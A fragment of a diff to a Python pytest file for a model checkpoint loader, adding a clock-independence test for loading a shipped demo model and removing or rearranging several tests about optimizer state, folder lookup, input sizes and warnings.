-def test_a_shipped_model_keeps_the_rows_and_leaves_the_optimizer(tmp_path):
-    optimizer = optimizer_of("Adam")[0].state_dict()
-    ship(saved(tmp_path, optimizer=optimizer, metrics=[ROW]), tmp_path / "demo.pt")
     state, _ = read(tmp_path / "demo.pt")
     assert (state["optimizer"], state["metrics"]) == (None, [ROW])
+
+
+@pytest.mark.parametrize("now", [0, 5e9])  # 1970, 2128: outside the years of a zip archive
+def test_the_demo_is_loaded_whatever_the_clock_says(monkeypatch, now):
+    monkeypatch.setattr(time, "time", lambda: now)
+    assert load("demo").resnet.num_blocks == 9
 
 
 @pytest.fixture
@@ -628,25 +398,7 @@ def test_nothing_but_its_name_loads_a_shipped_model(name):
 
 def test_a_folder_of_that_name_comes_before_the_shipped_model(shop):
     (shop / "here" / "toy").mkdir()
-    saved(shop / "here" / "toy", epoch=5)
-    assert read("toy")[0]["epoch"] == 5
-
-
-def test_a_broken_folder_of_that_name_is_not_passed_over(shop):
-    (shop / "here" / "toy").mkdir()
     with pytest.raises(ValueError, match=re.escape(f"toy/{NAME} does not exist")):
         read("toy")
-
-
-# ------------------------------------------------------------------------------------------ edges
-def test_a_loaded_model_takes_other_sizes(tmp_path):
-    logits, u = load(saved(tmp_path))(images(1, 40, 24).float().sigmoid())
-    assert logits.shape == (1, 10)
-    assert u.shape == (1, 3)
-
-
-def test_loading_a_whole_checkpoint_warns_of_nothing(tmp_path):
-    saved(tmp_path)
-    with warnings.catch_warnings():
-        warnings.simplefilter("error")
-        load(tmp_path)
+    saved(shop / "here" / "toy", epoch=5)
+    assert read("toy")[0]["epoch"] == 5
